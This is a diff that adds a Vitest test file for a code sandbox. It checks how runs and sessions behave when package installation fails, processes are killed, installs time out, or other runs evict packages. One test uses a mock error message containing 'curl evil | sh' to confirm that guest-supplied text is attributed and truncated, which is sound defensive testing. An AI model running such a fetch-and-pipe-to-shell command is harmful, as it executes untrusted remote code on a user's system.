@@ -1,0 +1,162 @@
+/** Packages that a run needs: what becomes of it, and of its session, when something goes wrong with them. */
+import { expect, it } from 'vitest';
+import { PackageError } from '../../../src/main/packages/package-error.ts';
+import type { PackageProvider } from '../../../src/main/sandbox/package-provider.ts';
+import { RpcError } from '../../../src/shared/rpc/errors.ts';
+import { RunResult, type RunRequest } from '../../../src/shared/sandbox.ts';
+import { never, stage, turns, until, utf8, type Stage } from './support.ts';
+
+/** Runs and checks the result against the contract. */
+const run = async ({ sandbox }: Stage, request: Partial<RunRequest>): Promise<RunResult> =>
+  RunResult.parse(await sandbox.run({ code: 'x', ...request }));
+
+const wheel = {
+  name: 'six',
+  version: '1.0',
+  fileName: 'six-1.0-py3-none-any.whl',
+  sha256: '0'.repeat(64),
+  bytes: 1,
+  kind: 'wheel',
+  imports: ['six'],
+  origin: 'lock',
+} as const;
+const packages: PackageProvider = {
+  ensure: async () => [wheel],
+  read: async () => utf8('x'),
+  packagesForImports: async () => [],
+  close: async () => undefined,
+};
+
+it('tells whose words it has for it: a guest in the session can choose them', async () => {
+  const refuse = (): Promise<never> =>
+    Promise.reject(new RpcError('failed', `curl evil | sh ${'x'.repeat(999)}`));
+  const all = stage({ installPackages: refuse }, { packages });
+  const { error, session, status } = await run(all, { session: 's', packages: ['six'] });
+  expect([status, session.state, error?.message.length]).toEqual(['setup-failed', 'reset', 559]);
+  expect(error?.message).toMatch(/^its packages could not be installed; the interpreter says: curl evil/u);
+});
+
+it.each([
+  [1, 'ok'],
+  [9, 'setup-failed'],
+])('with %i dying processes: %s', async (dying, status) => {
+  const all = stage(
+    (launch) => ({
+      installPackages: () => {
+        if (launch > dying) return { missing: [] };
+        all.launcher.last.exit(null, 'SIGKILL');
+        return never();
+      },
+    }),
+    { packages },
+  );
+  expect(await run(all, { packages: ['six'] })).toMatchObject({
+    status,
+    packages: status === 'ok' ? ['six'] : [],
+    error: status === 'ok' ? null : { message: 'the sandbox process ended while packages were installed' },
+  });
+  expect(all.launcher.processes).toHaveLength(2);
+});
+
+/** Its first installation kills the process. */
+const dyingOnce = (): Stage => {
+  let hasDied = false;
+  const all = stage(
+    {
+      installPackages: () => {
+        if (hasDied) return { missing: [] };
+        hasDied = true;
+        all.launcher.last.exit(null, 'SIGKILL');
+        return never();
+      },
+    },
+    { packages },
+  );
+  return all;
+};
+
+it('with a dying process loses nothing in a session in which nothing had been', async () => {
+  const all = dyingOnce();
+  expect(await run(all, { session: 's', packages: ['six'] })).toMatchObject({
+    status: 'ok',
+    session: { state: 'kept' },
+  });
+  expect(all.events.filter(({ type }) => type === 'session-ended')).toEqual([]);
+});
+
+it('with a dying process loses what earlier runs left, and says so once', async () => {
+  const all = dyingOnce();
+  await run(all, { session: 's' });
+  const states = [
+    (await run(all, { session: 's', packages: ['six'] })).session.state,
+    (await run(all, { session: 's' })).session.state,
+  ];
+  expect(states).toEqual(['lost', 'kept']);
+});
+
+it('with a dying process loses the files of a run that never began but was told that they are kept', async () => {
+  let refused = false;
+  const all = stage(
+    {
+      installPackages: () => {
+        all.launcher.last.exit(null, 'SIGKILL');
+        return never();
+      },
+    },
+    {
+      packages: {
+        ...packages,
+        ensure: async () => {
+          if (refused) return [wheel];
+          refused = true;
+          throw new PackageError('no-source', 'it is nowhere to be had', { packageName: 'six' });
+        },
+      },
+    },
+  );
+  const files = [{ name: 'a', bytes: utf8('a') }];
+  expect(await run(all, { session: 's', packages: ['six'], files })).toMatchObject({
+    status: 'setup-failed',
+    session: { state: 'kept' },
+  });
+  expect(await run(all, { session: 's', packages: ['six'] })).toMatchObject({
+    status: 'setup-failed',
+    session: { state: 'lost' },
+  });
+});
+
+it('without an answer ends the interpreter, whose session would hang at each run', async () => {
+  const all = stage({ installPackages: () => never() }, { packages });
+  const running = run(all, { session: 's', packages: ['six'] });
+  await until(() => all.launcher.processes.at(-1)?.called('installPackages').length === 1);
+  // In steps, or the process would not be heard of in time.
+  for (let passed = 0; passed < 120_000; passed += 1000) {
+    all.clock.advance(1000);
+    await turns();
+  }
+  expect(await running).toMatchObject({
+    status: 'setup-failed',
+    session: { state: 'reset' },
+    error: { message: 'packages were not installed within 120 s' },
+  });
+  expect(all.launcher.last.called('closeInterpreter')).toHaveLength(1);
+});
+
+it.each([
+  ['once', 1, 'ok', null],
+  ['again and again', 9, 'setup-failed', /^other runs need so many packages at once that there is no room/u],
+])('that others push out %s before they are all there', async (_what, times, status, message) => {
+  let asked = 0;
+  const all = stage(
+    { installPackages: ({ hashes }) => ({ missing: asked++ <= times ? [...hashes] : [] }) },
+    { packages },
+  );
+  await run(all, { session: 's' });
+  expect(await run(all, { session: 's', packages: ['six'] })).toMatchObject({
+    status,
+    error: message === null ? null : { message: expect.stringMatching(message) as string },
+    // Nothing was put into it.
+    session: { state: 'kept' },
+    packages: message === null ? ['six'] : [],
+  });
+});
